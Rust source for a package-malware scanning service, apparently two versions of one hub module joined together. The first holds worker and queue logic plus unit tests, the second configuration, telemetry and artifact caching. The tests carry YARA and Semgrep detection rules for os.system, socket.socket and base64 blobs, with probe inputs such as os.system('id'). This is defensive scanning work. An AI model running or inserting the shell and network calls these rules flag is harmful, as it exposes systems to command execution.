    }

    /// A snapshot of the service counters.
    pub fn stats(&self) -> HubStats {
        self.shared.counters.snapshot()
    }

    /// Number of verdicts currently cached.
    pub fn cached_verdicts(&self) -> usize {
        self.shared
            .cache
            .as_ref()
            .map_or(0, |c| c.lock().expect("cache lock").len())
    }

    /// Submits one package; blocks while the queue is full.
    pub fn submit(&self, request: ScanRequest) -> Ticket {
        let c = &self.shared.counters;
        HubCounters::add(&c.submitted, 1);
        let digest = self.shared.cache.as_ref().map(|_| request.digest());
        if let (Some(cache), Some(d)) = (&self.shared.cache, &digest) {
            if let Some(mut verdict) = cache.lock().expect("cache lock").get(d) {
                verdict.from_cache = true;
                HubCounters::add(&c.cache_hits, 1);
                HubCounters::add(&c.completed, 1);
                return Ticket::ready(verdict);
            }
        }
        let ticket = Arc::new(TicketState {
            slot: Mutex::new(None),
            ready: Condvar::new(),
        });
        let job = Job {
            request,
            digest,
            ticket: Arc::clone(&ticket),
        };
        let mut queue = self.shared.queue.lock().expect("queue lock");
        while queue.jobs.len() >= self.shared.capacity && !queue.closed {
            queue = self.shared.not_full.wait(queue).expect("queue wait");
        }
        queue.jobs.push_back(job);
        drop(queue);
        self.shared.not_empty.notify_one();
        Ticket { state: ticket }
    }

    /// Submits a batch and returns the verdicts in submission order.
    pub fn scan_ordered<I>(&self, requests: I) -> Vec<Verdict>
    where
        I: IntoIterator<Item = ScanRequest>,
    {
        let tickets: Vec<Ticket> = requests.into_iter().map(|r| self.submit(r)).collect();
        tickets.iter().map(Ticket::wait).collect()
    }
}

impl Drop for ScanHub {
    fn drop(&mut self) {
        {
            let mut queue = self.shared.queue.lock().expect("queue lock");
            queue.closed = true;
        }
        self.shared.not_empty.notify_all();
        self.shared.not_full.notify_all();
        for handle in self.workers.drain(..) {
            let _ = handle.join();
        }
    }
}

/// Per-worker reusable scan state. Every slot is either generation-
/// stamped or cleared before use, so a worker's steady-state scan path
/// performs no allocation beyond actual findings.
struct WorkerScratch {
    routing: Routing,
    prefilter: PrefilterScratch,
    yara: ScanScratch,
    semgrep: MatchScratch,
    findings: Vec<semgrep_engine::Finding>,
    ids: HashSet<String>,
}

impl WorkerScratch {
    fn new() -> Self {
        WorkerScratch {
            routing: Routing::empty(),
            prefilter: PrefilterScratch::new(),
            yara: ScanScratch::new(),
            semgrep: MatchScratch::new(),
            findings: Vec::new(),
            ids: HashSet::new(),
        }
    }
}

fn worker_loop(shared: &Shared) {
    // Per-worker reusable matcher state: the merged Aho–Corasick
    // automatons and the Semgrep anchor index are built once per worker,
    // not once per package — and neither ever parses pattern text.
    let scanner = shared.yara.as_ref().map(Scanner::new);
    let matcher = shared.semgrep.as_ref().map(MatchSet::new);
    let mut scratch = WorkerScratch::new();
    loop {
        let job = {
            let mut queue = shared.queue.lock().expect("queue lock");
            loop {
                if let Some(job) = queue.jobs.pop_front() {
                    break job;
                }
                if queue.closed {
                    return;
                }
                queue = shared.not_empty.wait(queue).expect("queue wait");
            }
        };
        shared.not_full.notify_one();
        // A panic while scanning one hostile package must neither strand
        // the caller on an unfulfilled ticket nor take the worker down.
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            scan_job(
                shared,
                scanner.as_ref(),
                matcher.as_ref(),
                &mut scratch,
                &job.request,
            )
        }));
        match outcome {
            Ok(verdict) => {
                if let (Some(cache), Some(d)) = (&shared.cache, &job.digest) {
                    cache
                        .lock()
                        .expect("cache lock")
                        .insert(*d, verdict.clone());
                }
                HubCounters::add(&shared.counters.completed, 1);
                job.ticket.fulfill(Ok(verdict));
            }
            Err(panic) => {
                let msg = panic
                    .downcast_ref::<String>()
                    .map(String::as_str)
                    .or_else(|| panic.downcast_ref::<&str>().copied())
                    .unwrap_or("opaque panic payload");
                job.ticket
                    .fulfill(Err(format!("scan worker panicked: {msg}")));
            }
        }
    }
}

fn scan_job(
    shared: &Shared,
    scanner: Option<&Scanner<'_>>,
    matcher: Option<&MatchSet<'_>>,
    scratch: &mut WorkerScratch,
    request: &ScanRequest,
) -> Verdict {
    let c = &shared.counters;
    let WorkerScratch {
        routing,
        prefilter,
        yara: yara_scratch,
        semgrep: semgrep_scratch,
        findings,
        ids,
    } = scratch;
    if shared.prefilter {
        shared
            .index
            .route_into(&request.buffer, &request.sources, routing, prefilter);
    } else {
        shared.index.route_all_into(routing);
    }
    HubCounters::add(&c.bytes_scanned, request.buffer.len() as u64);

    let mut verdict = Verdict::default();
    if let Some(scanner) = scanner {
        let routed = routing.yara_routed();
        count(&c.yara_rules_evaluated, routed);
        count(&c.yara_rules_skipped, routing.yara.len() - routed);
        if routed == 0 {
            HubCounters::add(&c.yara_scans_skipped, 1);
        } else {
            let (hits, metrics) =
                scanner.scan_rules_scratch(&request.buffer, |ri| routing.yara[ri], yara_scratch);
            HubCounters::add(&c.regex_strings_evaluated, metrics.regex_strings_evaluated);
            HubCounters::add(&c.regex_bytes_scanned, metrics.regex_bytes_scanned);
            for hit in hits {
                verdict.yara.push(hit.rule);
            }
        }
    }
    if let Some(matcher) = matcher {
        let routed = routing.semgrep_routed();
        count(&c.semgrep_rules_evaluated, routed);
        count(&c.semgrep_rules_skipped, routing.semgrep.len() - routed);
        if routed == 0 || request.sources.is_empty() {
            HubCounters::add(&c.semgrep_parses_skipped, 1);
        } else {
            ids.clear();
            let mut metrics = SemgrepMetrics::default();
            for src in &request.sources {
                let module = pysrc::parse_module(src);
                findings.clear();
                metrics.absorb(matcher.match_module_set_into(
                    &module,
                    |ri| routing.semgrep[ri],
                    semgrep_scratch,
                    findings,
                ));
                for finding in findings.drain(..) {
                    ids.insert(finding.rule_id);
                }
            }
            HubCounters::add(&c.semgrep_stmts_visited, metrics.stmts_visited);
            HubCounters::add(&c.semgrep_pattern_reparses, metrics.pattern_reparses);
            verdict.semgrep = ids.drain().collect();
            verdict.semgrep.sort();
        }
    }
    verdict
}

fn count(counter: &AtomicU64, n: usize) {
    HubCounters::add(counter, n as u64);
}

#[cfg(test)]
mod tests {
    use super::*;

    const YARA: &str = r#"
rule sys { strings: $a = "os.system" condition: $a }
rule net { strings: $a = "socket.socket" condition: $a }
rule b64 { strings: $re = /[A-Za-z0-9+\/]{16,}/ condition: $re }
"#;

    const SEMGREP: &str = "rules:\n  - id: sys-call\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";

    fn hub(config: HubConfig) -> ScanHub {
        ScanHub::new(
            Some(yara_engine::compile(YARA).expect("yara")),
            Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
            config,
        )
    }

    fn request(code: &str) -> ScanRequest {
        ScanRequest::new(code.as_bytes().to_vec(), vec![code.to_owned()])
    }

    #[test]
    fn verdicts_match_both_engines() {
        let hub = hub(HubConfig::default());
        let v = hub.submit(request("import os\nos.system('id')\n")).wait();
        assert_eq!(v.yara, vec!["sys".to_owned()]);
        assert_eq!(v.semgrep, vec!["sys-call".to_owned()]);
        assert!(!v.from_cache);
        assert!(v.flagged());
    }

    #[test]
    fn clean_package_passes() {
        let hub = hub(HubConfig::default());
        let v = hub.submit(request("print('hi')\n")).wait();
        assert!(!v.flagged());
    }

    #[test]
    fn resubmission_is_served_from_cache_with_same_verdict() {
        let hub = hub(HubConfig::default());
        let first = hub.submit(request("import os\nos.system('id')\n")).wait();
        let second = hub.submit(request("import os\nos.system('id')\n")).wait();
        assert!(!first.from_cache);
        assert!(second.from_cache);
        assert!(first.same_matches(&second));
        let stats = hub.stats();
        assert_eq!(stats.cache_hits, 1);
        assert_eq!(stats.submitted, 2);
        assert_eq!(stats.completed, 2);
    }

    #[test]
    fn cache_can_be_disabled() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let a = hub.submit(request("x = 1\n")).wait();
        let b = hub.submit(request("x = 1\n")).wait();
        assert!(!a.from_cache && !b.from_cache);
        assert_eq!(hub.stats().cache_hits, 0);
    }

    #[test]
    fn prefilter_skips_clean_packages_entirely() {
        let hub = ScanHub::new(
            Some(
                yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
                    .expect("yara"),
            ),
            None,
            HubConfig {
                cache_capacity: 0,
                ..HubConfig::default()
            },
        );
        let v = hub
            .submit(request("def add(a, b):\n    return a + b\n"))
            .wait();
        assert!(!v.flagged());
        let stats = hub.stats();
        assert_eq!(stats.yara_scans_skipped, 1);
        assert_eq!(stats.yara_rules_skipped, 1);
        assert_eq!(stats.yara_rules_evaluated, 0);
        assert!(stats.prefilter_skip_rate() > 0.99);
    }

    #[test]
    fn regex_counters_track_engine_work() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let code = "payload = 'aW1wb3J0IG9zO2V4ZWMoKQzz12345'\n";
        let v = hub.submit(request(code)).wait();
        assert_eq!(v.yara, vec!["b64".to_owned()]);
        let stats = hub.stats();
        // The b64 rule's regex ran at least once over the full buffer.
        assert!(stats.regex_strings_evaluated >= 1);
        assert!(stats.regex_bytes_scanned >= code.len() as u64);
        assert!(stats.regex_read_amplification() > 0.0);
    }

    #[test]
    fn semgrep_counters_track_single_pass_work_and_zero_reparses() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        for code in [
            "import os\nos.system('id')\n",
            "def f():\n    return os.system(x)\n",
            "print('clean, but os.system appears in a string')\n",
        ] {
            let _ = hub.submit(request(code)).wait();
        }
        let stats = hub.stats();
        // Every routed source was walked exactly once per module.
        assert!(stats.semgrep_stmts_visited >= 4, "{stats:?}");
        // Compile-once matching: the scan path never re-parses patterns.
        assert_eq!(stats.semgrep_pattern_reparses, 0);
    }

    #[test]
    fn scan_ordered_preserves_submission_order() {
        let hub = hub(HubConfig {
            queue_capacity: 2,
            workers: 3,
            ..HubConfig::default()
        });
        let codes: Vec<String> = (0..40)
            .map(|i| {
                if i % 3 == 0 {
                    format!("import os\nos.system('cmd{i}')\n")
                } else {
                    format!("def f{i}():\n    return {i}\n")
                }
            })
            .collect();
        let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
        assert_eq!(verdicts.len(), 40);
        for (i, v) in verdicts.iter().enumerate() {
            assert_eq!(v.yara.is_empty(), i % 3 != 0, "index {i}");
        }
    }

    #[test]
    fn prefilter_and_exhaustive_agree() {
        let fast = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let slow = hub(HubConfig {
            prefilter: false,
            cache_capacity: 0,
            ..HubConfig::default()
        });
        for code in [
            "import os\nos.system('id')\n",
            "import socket\nsocket.socket()\n",
            "payload = 'aW1wb3J0IG9zO2V4ZWMoKQzz12345'\n",
            "print('clean')\n",
        ] {
            let a = fast.submit(request(code)).wait();
            let b = slow.submit(request(code)).wait();
            assert_eq!(a, b, "divergence on {code:?}");
        }
    }

    #[test]
    fn raw_request_with_sources_outside_buffer_still_matches() {
        // A raw ScanRequest makes no promise that its sources are
        // substrings of its buffer; Semgrep routing must come from the
        // sources themselves, or the prefilter would drop true matches.
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let v = hub
            .submit(ScanRequest::new(
                Vec::new(),
                vec!["import os\nos.system('x')\n".to_owned()],
            ))
            .wait();
        assert_eq!(v.semgrep, vec!["sys-call".to_owned()]);
    }

    #[test]
    fn scan_ordered_keeps_order_under_concurrent_submitters() {
        // Several client threads interleave submissions into one hub with
        // a deliberately tiny queue; each client's batch must come back
        // in its own submission order regardless of global interleaving.
        let hub = hub(HubConfig {
            queue_capacity: 1,
            workers: 4,
            cache_capacity: 0,
            ..HubConfig::default()
        });
        std::thread::scope(|scope| {
            for client in 0..4 {
                let hub = &hub;
                scope.spawn(move || {
                    let codes: Vec<String> = (0..25)
                        .map(|i| {
                            if (i + client) % 2 == 0 {
                                format!("import os\nos.system('c{client}_{i}')\n")
                            } else {
                                format!("def f{client}_{i}():\n    return {i}\n")
                            }
                        })
                        .collect();
                    let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
                    for (i, v) in verdicts.iter().enumerate() {
                        assert_eq!(
                            v.yara.contains(&"sys".to_owned()),
                            (i + client) % 2 == 0,
                            "client {client} index {i} out of order"
                        );
                    }
                });
            }
        });
        assert_eq!(hub.stats().completed, 100);
    }

    #[test]
    #[should_panic(expected = "scan worker panicked")]
    fn wait_propagates_worker_panics() {
        let state = Arc::new(TicketState {
            slot: Mutex::new(None),
            ready: Condvar::new(),
        });
        state.fulfill(Err("scan worker panicked: boom".to_owned()));
        Ticket { state }.wait();
    }

    #[test]
    fn empty_rule_bundle_always_passes() {
        let hub = ScanHub::new(None, None, HubConfig::default());
        let v = hub.submit(request("anything")).wait();
        assert_eq!(v, Verdict::default());
    }

    #[test]
    fn drop_joins_workers_with_pending_jobs() {
        let hub = hub(HubConfig {
            workers: 1,
            ..HubConfig::default()
        });
        let tickets: Vec<Ticket> = (0..16)
            .map(|i| hub.submit(request(&format!("x = {i}\n"))))
            .collect();
        drop(hub);
        // Workers drain the queue before exiting, so every ticket resolves.
        for t in &tickets {
            let _ = t.wait();
        }
    }
}

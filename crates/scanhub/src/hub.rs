//! The streaming scan service: sharded workers, bounded ingestion queue,
//! digest caches (verdicts per request, artifacts per file), prefilter
//! routing, decoded-layer scanning, per-stage latency telemetry and a
//! scan-trace flight recorder.

use std::collections::{HashSet, VecDeque};
use std::sync::atomic::AtomicU64;
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use semgrep_engine::{CompiledSemgrepRules, MatchScratch, MatchSet, SemgrepMetrics};
use telemetry::{FlightRecorder, Histogram, Registry};
use yara_engine::{CompiledRules, ScanScratch, Scanner};

use crate::artifact::{ArtifactConfig, FileAnalysis};
use crate::cache::{ArtifactCache, DigestKey, VerdictCache};
use crate::prefilter::{PrefilterIndex, PrefilterScratch, Routing, RuleEngine};
use crate::request::ScanRequest;
use crate::retrohunt::{
    confirm_scan, ConfirmTask, RetroIndex, RetroReport, RuleDeployment, TermProvenance,
};
use crate::stats::{HubCounters, HubStats, LatencyStat, StageLatencies};
use crate::trace::{fired_from_verdict, ScanTrace, StageNanos};
use crate::verdict::{FlowRecord, LayerFinding, Verdict};

/// Service tuning knobs.
#[derive(Debug, Clone)]
pub struct HubConfig {
    /// Worker threads (each with its own reusable scanner state).
    pub workers: usize,
    /// Bounded submission queue length; a full queue blocks `submit`
    /// (backpressure toward the ingestion side).
    pub queue_capacity: usize,
    /// Verdict cache entries; 0 disables caching.
    pub cache_capacity: usize,
    /// Per-file artifact cache entries; 0 disables the cache (every
    /// request re-analyzes every file — the cold-path ablation lever).
    pub artifact_cache_capacity: usize,
    /// Decoded-layer extraction depth; 0 turns layered scanning off
    /// entirely, making verdicts identical to surface-only scanning
    /// (the A/B lever for the layered-robustness measurement).
    pub max_decode_depth: u8,
    /// Behavioral taint engine: per-file source→sink dataflow summaries
    /// computed at artifact-build time (once per unique digest) and
    /// aggregated into [`Verdict::flows`]. Disabling skips both the
    /// analysis and the verdict stage (the A/B lever for the
    /// taint-robustness measurement and the warm-overhead bench).
    pub dataflow: bool,
    /// Literal prefilter routing; disabling scans every rule (A/B lever
    /// for the throughput benchmark and the equivalence property test).
    pub prefilter: bool,
    /// Per-stage latency histograms and scan traces. When off, the scan
    /// path reads no clocks and records nothing; the cost per request is
    /// one relaxed atomic load.
    pub telemetry: bool,
    /// Flight-recorder ring size: the last N completed scan traces kept
    /// for after-the-fact explanation. 0 keeps histograms but no traces.
    pub trace_capacity: usize,
    /// Maintain the retro-hunt atom→digest posting index alongside the
    /// artifact cache, so deploying new rules confirm-scans only
    /// candidate digests ([`ScanHub::retro_hunt`]). No effect when
    /// `artifact_cache_capacity` is 0.
    pub retro_index: bool,
}

impl Default for HubConfig {
    fn default() -> Self {
        HubConfig {
            workers: std::thread::available_parallelism()
                .map(|n| n.get())
                .unwrap_or(4),
            queue_capacity: 256,
            cache_capacity: 4096,
            artifact_cache_capacity: 4096,
            max_decode_depth: ArtifactConfig::default().max_decode_depth,
            dataflow: true,
            prefilter: true,
            telemetry: true,
            trace_capacity: 256,
            retro_index: true,
        }
    }
}

struct QueueState {
    jobs: VecDeque<Job>,
    closed: bool,
}

struct Job {
    request: ScanRequest,
    digest: Option<DigestKey>,
    ticket: Arc<TicketState>,
    /// Submit-entry timestamp (`None` when telemetry is off): the origin
    /// for end-to-end wall time.
    submitted_at: Option<Instant>,
    /// Enqueue timestamp; pop-minus-enqueue is the queue-wait stage.
    enqueued_at: Option<Instant>,
    /// Digest + verdict-cache lookup time already spent on the submit
    /// path, attributed to this job's `cache` stage.
    cache_ns: u64,
}

struct TicketState {
    slot: Mutex<Option<Result<Verdict, String>>>,
    ready: Condvar,
}

impl TicketState {
    fn fulfill(&self, outcome: Result<Verdict, String>) {
        *self.slot.lock().expect("ticket lock") = Some(outcome);
        self.ready.notify_all();
    }
}

/// A claim on one submitted package's verdict.
#[must_use = "a ticket must be waited on to observe the verdict"]
pub struct Ticket {
    state: Arc<TicketState>,
}

impl Ticket {
    fn ready(verdict: Verdict) -> Self {
        Ticket {
            state: Arc::new(TicketState {
                slot: Mutex::new(Some(Ok(verdict))),
                ready: Condvar::new(),
            }),
        }
    }

    /// Blocks until the verdict is available.
    ///
    /// # Panics
    ///
    /// Propagates a worker panic that occurred while scanning this
    /// request (the worker itself survives and keeps serving the queue).
    pub fn wait(&self) -> Verdict {
        let mut slot = self.state.slot.lock().expect("ticket lock");
        loop {
            match slot.as_ref() {
                Some(Ok(v)) => return v.clone(),
                Some(Err(msg)) => panic!("{msg}"),
                None => slot = self.state.ready.wait(slot).expect("ticket wait"),
            }
        }
    }

    /// Blocks for at most `timeout`; returns `None` if the verdict is
    /// still pending when the deadline passes (the ticket stays valid —
    /// wait again later).
    ///
    /// # Panics
    ///
    /// Propagates a worker panic, exactly like [`Ticket::wait`].
    pub fn wait_timeout(&self, timeout: Duration) -> Option<Verdict> {
        let deadline = Instant::now().checked_add(timeout);
        let mut slot = self.state.slot.lock().expect("ticket lock");
        loop {
            match slot.as_ref() {
                Some(Ok(v)) => return Some(v.clone()),
                Some(Err(msg)) => panic!("{msg}"),
                // A deadline `Instant` can't represent (`Duration::MAX`
                // overflows `checked_add`) is infinitely far away, not
                // already expired: block exactly like `wait()`.
                None => match deadline {
                    None => slot = self.state.ready.wait(slot).expect("ticket wait"),
                    Some(deadline) => {
                        let remaining = deadline
                            .checked_duration_since(Instant::now())
                            .filter(|r| !r.is_zero())?;
                        let (guard, _timed_out) = self
                            .state
                            .ready
                            .wait_timeout(slot, remaining)
                            .expect("ticket wait");
                        slot = guard;
                    }
                },
            }
        }
    }
}

/// One `Instant` origin for a chain of sequential stage measurements;
/// `lap` returns the nanoseconds since the previous lap. Reads **no
/// clock at all** when telemetry is disabled (every lap is 0).
struct StageClock {
    last: Option<Instant>,
}

impl StageClock {
    fn start(enabled: bool) -> Self {
        StageClock {
            last: enabled.then(Instant::now),
        }
    }

    fn lap(&mut self) -> u64 {
        match &mut self.last {
            None => 0,
            Some(last) => {
                let now = Instant::now();
                let ns = now.duration_since(*last).as_nanos() as u64;
                *last = now;
                ns
            }
        }
    }
}

/// Hub-owned metrics: the registry, one histogram per pipeline stage,
/// the end-to-end scan histogram, and the trace flight recorder.
struct HubTelemetry {
    registry: Arc<Registry>,
    recorder: FlightRecorder<ScanTrace>,
    queue: Arc<Histogram>,
    cache: Arc<Histogram>,
    artifact: Arc<Histogram>,
    /// Incremental diff-and-splice builds. Samples are nested inside
    /// `artifact` laps (a splice is one way an artifact build resolves).
    splice: Arc<Histogram>,
    prefilter: Arc<Histogram>,
    yara: Arc<Histogram>,
    layers: Arc<Histogram>,
    semgrep: Arc<Histogram>,
    dataflow: Arc<Histogram>,
    verdict: Arc<Histogram>,
    scan: Arc<Histogram>,
    /// Retro-hunt stages: index query (one sample per hunt) and
    /// per-digest confirm scans.
    retro_query: Arc<Histogram>,
    retro_confirm: Arc<Histogram>,
}

const STAGE_HIST: &str = "scanhub_stage_duration_ns";
const STAGE_HELP: &str = "Per-stage scan pipeline latency in nanoseconds";

impl HubTelemetry {
    fn new(enabled: bool, trace_capacity: usize) -> Self {
        let registry = Arc::new(Registry::new());
        registry.set_enabled(enabled);
        let stage = |name| registry.histogram_with(STAGE_HIST, STAGE_HELP, &[("stage", name)]);
        HubTelemetry {
            queue: stage("queue"),
            cache: stage("cache"),
            artifact: stage("artifact"),
            splice: stage("splice"),
            prefilter: stage("prefilter"),
            yara: stage("yara"),
            layers: stage("layers"),
            semgrep: stage("semgrep"),
            dataflow: stage("dataflow"),
            verdict: stage("verdict"),
            retro_query: stage("retro_query"),
            retro_confirm: stage("retro_confirm"),
            scan: registry.histogram(
                "scanhub_scan_duration_ns",
                "End-to-end submit-to-verdict wall time in nanoseconds",
            ),
            recorder: FlightRecorder::new(trace_capacity),
            registry,
        }
    }

    fn enabled(&self) -> bool {
        self.registry.enabled()
    }

    /// Records one request's stage laps and wall time. Stages that did
    /// not run (lap 0) stay out of their histograms so per-stage
    /// percentiles describe the stage's actual executions; the trace
    /// keeps the raw zeros.
    fn record(&self, stages: &StageNanos, wall_ns: u64) {
        let pairs = [
            (&self.queue, stages.queue),
            (&self.cache, stages.cache),
            (&self.artifact, stages.artifact),
            (&self.splice, stages.splice),
            (&self.prefilter, stages.prefilter),
            (&self.yara, stages.yara),
            (&self.layers, stages.layers),
            (&self.semgrep, stages.semgrep),
            (&self.dataflow, stages.dataflow),
            (&self.verdict, stages.verdict),
        ];
        for (hist, ns) in pairs {
            if ns > 0 {
                hist.record(ns);
            }
        }
        self.scan.record(wall_ns);
    }

    /// Records a trace, assigning its `seq` under the ring lock so ring
    /// order and sequence order agree even across racing workers. Takes
    /// a constructor rather than a built trace: when the ring is
    /// disabled (`trace_capacity: 0`) the trace — fired-rule expansion
    /// included — is never materialized at all.
    fn push_trace(&self, make: impl FnOnce(u64) -> ScanTrace) {
        self.recorder.record_with(make);
    }

    /// The percentile view [`ScanHub::stats`] overlays onto the counter
    /// snapshot.
    fn latencies(&self) -> StageLatencies {
        let stat = |h: &Histogram| LatencyStat::from_snapshot(&h.snapshot());
        StageLatencies {
            queue: stat(&self.queue),
            cache: stat(&self.cache),
            artifact: stat(&self.artifact),
            splice: stat(&self.splice),
            prefilter: stat(&self.prefilter),
            yara: stat(&self.yara),
            layers: stat(&self.layers),
            semgrep: stat(&self.semgrep),
            dataflow: stat(&self.dataflow),
            verdict: stat(&self.verdict),
            retro_query: stat(&self.retro_query),
            retro_confirm: stat(&self.retro_confirm),
            scan: stat(&self.scan),
        }
    }
}

/// The shared artifact cache plus a single-flight registry: when two
/// workers race on the same cold digest, one builds and the others
/// wait, so a hub run performs **exactly one** analysis per unique file
/// digest regardless of worker count — the invariant the parse-count
/// property test pins.
struct ArtifactStore {
    cache: Mutex<ArtifactCache>,
    inflight: Mutex<std::collections::HashMap<DigestKey, Arc<InflightSlot>>>,
    /// The retro-hunt posting index, kept in lockstep with cache
    /// residency on the publish path. Lock discipline: never held
    /// together with `cache` — publish inserts into the cache, drops
    /// that guard, then updates the index with the eviction report.
    retro: Option<Mutex<RetroIndex>>,
    /// Sibling registry: file name (registry-relative path) → digest of
    /// the newest artifact built under that name. On a digest miss the
    /// hub looks the name up here and, if the previous version is still
    /// cache-resident, builds the new artifact by diff-and-splice
    /// instead of a full reparse. Names are a hint, never an identity:
    /// a stale or evicted mapping only costs a full build. Bounded by
    /// periodic pruning against cache residency (see
    /// [`ArtifactStore::record_sibling`]).
    siblings: Mutex<std::collections::HashMap<String, DigestKey>>,
    /// Artifact-cache capacity, kept for sibling-registry pruning.
    capacity: usize,
}

enum InflightState {
    Building,
    Ready(Arc<FileAnalysis>),
    /// The building worker panicked before publishing; waiters go back
    /// and re-claim instead of hanging.
    Abandoned,
}

struct InflightSlot {
    state: Mutex<InflightState>,
    ready: Condvar,
}

/// A claimed build: the holder is the unique builder for `digest` until
/// it publishes. Dropping the claim without publishing (a panic while
/// analyzing a hostile file) abandons the slot and wakes any waiters so
/// they can rebuild rather than deadlock.
struct BuildClaim<'a> {
    store: &'a ArtifactStore,
    digest: DigestKey,
    published: bool,
}

impl BuildClaim<'_> {
    fn publish(mut self, artifact: &Arc<FileAnalysis>) {
        let evicted = self
            .store
            .cache
            .lock()
            .expect("artifact cache lock")
            .insert(self.digest, Arc::clone(artifact));
        if let Some(retro) = &self.store.retro {
            let mut retro = retro.lock().expect("retro index lock");
            for digest in &evicted {
                retro.remove(digest);
            }
            retro.insert_artifact(artifact);
        }
        self.store
            .resolve(&self.digest, InflightState::Ready(Arc::clone(artifact)));
        self.published = true;
    }
}

impl Drop for BuildClaim<'_> {
    fn drop(&mut self) {
        if !self.published {
            self.store.resolve(&self.digest, InflightState::Abandoned);
        }
    }
}

impl ArtifactStore {
    fn new(capacity: usize, retro_index: bool) -> Self {
        ArtifactStore {
            cache: Mutex::new(ArtifactCache::new(capacity)),
            inflight: Mutex::new(std::collections::HashMap::new()),
            retro: retro_index.then(|| Mutex::new(RetroIndex::new())),
            siblings: Mutex::new(std::collections::HashMap::new()),
            capacity,
        }
    }

    /// The cache-resident artifact previously built under this file
    /// name, if any — the splice donor for the next version of the same
    /// file. Uses [`LruCache::peek`] so sibling reads never refresh
    /// recency: an old version must not be kept alive over hot entries
    /// just because new versions keep diffing against it.
    fn sibling(&self, name: &str) -> Option<Arc<FileAnalysis>> {
        let digest = *self
            .siblings
            .lock()
            .expect("sibling registry lock")
            .get(name)?;
        self.cache
            .lock()
            .expect("artifact cache lock")
            .peek(&digest)
            .cloned()
    }

    /// Records `digest` as the newest artifact built under `name`.
    /// When the registry outgrows cache residency by 4x (names whose
    /// digests were long since evicted), drops every mapping that no
    /// longer points at a resident artifact.
    fn record_sibling(&self, name: &str, digest: DigestKey) {
        let mut siblings = self.siblings.lock().expect("sibling registry lock");
        siblings.insert(name.to_owned(), digest);
        if siblings.len() > self.capacity.saturating_mul(4).max(16) {
            let cache = self.cache.lock().expect("artifact cache lock");
            siblings.retain(|_, d| cache.peek(d).is_some());
        }
    }

    /// Returns the cached artifact, or the build claim when this caller
    /// is elected to build; blocks behind another worker's in-progress
    /// build of the same digest.
    fn get_or_claim(&self, digest: &DigestKey) -> Result<Arc<FileAnalysis>, BuildClaim<'_>> {
        loop {
            if let Some(artifact) = self.cache.lock().expect("artifact cache lock").get(digest) {
                return Ok(artifact);
            }
            let (slot, leader) = {
                let mut inflight = self.inflight.lock().expect("inflight lock");
                match inflight.get(digest) {
                    Some(slot) => (Arc::clone(slot), false),
                    None => {
                        let slot = Arc::new(InflightSlot {
                            state: Mutex::new(InflightState::Building),
                            ready: Condvar::new(),
                        });
                        inflight.insert(*digest, Arc::clone(&slot));
                        (slot, true)
                    }
                }
            };
            if leader {
                let claim = BuildClaim {
                    store: self,
                    digest: *digest,
                    published: false,
                };
                // Close the check/claim race: a previous leader may have
                // published (cache insert happens before its inflight
                // slot is removed) between our cache miss and our
                // election. Re-checking under a fresh claim guarantees a
                // published digest is never rebuilt; publishing the
                // cached artifact releases any waiters already parked on
                // our slot.
                let published = self.cache.lock().expect("artifact cache lock").get(digest);
                if let Some(artifact) = published {
                    claim.publish(&artifact);
                    return Ok(artifact);
                }
                return Err(claim);
            }
            let mut state = slot.state.lock().expect("inflight slot lock");
            loop {
                match &*state {
                    InflightState::Building => {
                        state = slot.ready.wait(state).expect("inflight wait");
                    }
                    InflightState::Ready(artifact) => return Ok(Arc::clone(artifact)),
                    InflightState::Abandoned => break,
                }
            }
            // The builder gave up: retry from the top (cache re-check,
            // fresh claim).
        }
    }

    /// Removes the inflight slot for `digest` and wakes its waiters
    /// with the final state.
    fn resolve(&self, digest: &DigestKey, outcome: InflightState) {
        let slot = self.inflight.lock().expect("inflight lock").remove(digest);
        if let Some(slot) = slot {
            *slot.state.lock().expect("inflight slot lock") = outcome;
            slot.ready.notify_all();
        }
    }
}

struct Shared {
    yara: Option<CompiledRules>,
    semgrep: Option<CompiledSemgrepRules>,
    index: PrefilterIndex,
    prefilter: bool,
    artifact_config: ArtifactConfig,
    queue: Mutex<QueueState>,
    not_empty: Condvar,
    not_full: Condvar,
    capacity: usize,
    cache: Option<Mutex<VerdictCache>>,
    artifacts: Option<ArtifactStore>,
    counters: HubCounters,
    telemetry: HubTelemetry,
}

/// A streaming scan service over one compiled rule bundle.
///
/// Workers are spawned at construction; [`ScanHub::submit`] enqueues
/// packages (blocking when the bounded queue is full) and returns a
/// [`Ticket`] redeemable for the [`Verdict`]. Dropping the hub drains the
/// queue and joins the workers.
pub struct ScanHub {
    shared: Arc<Shared>,
    workers: Vec<JoinHandle<()>>,
}

impl ScanHub {
    /// Builds a hub over the given rule sets.
    pub fn new(
        yara: Option<CompiledRules>,
        semgrep: Option<CompiledSemgrepRules>,
        config: HubConfig,
    ) -> Self {
        let index = PrefilterIndex::build(yara.as_ref(), semgrep.as_ref());
        let shared = Arc::new(Shared {
            yara,
            semgrep,
            index,
            prefilter: config.prefilter,
            artifact_config: ArtifactConfig {
                max_decode_depth: config.max_decode_depth,
                dataflow: config.dataflow,
                ..ArtifactConfig::default()
            },
            queue: Mutex::new(QueueState {
                jobs: VecDeque::new(),
                closed: false,
            }),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
            capacity: config.queue_capacity.max(1),
            cache: (config.cache_capacity > 0)
                .then(|| Mutex::new(VerdictCache::new(config.cache_capacity))),
            artifacts: (config.artifact_cache_capacity > 0)
                .then(|| ArtifactStore::new(config.artifact_cache_capacity, config.retro_index)),
            counters: HubCounters::default(),
            telemetry: HubTelemetry::new(config.telemetry, config.trace_capacity),
        });
        let workers = (0..config.workers.max(1))
            .map(|worker_id| {
                let shared = Arc::clone(&shared);
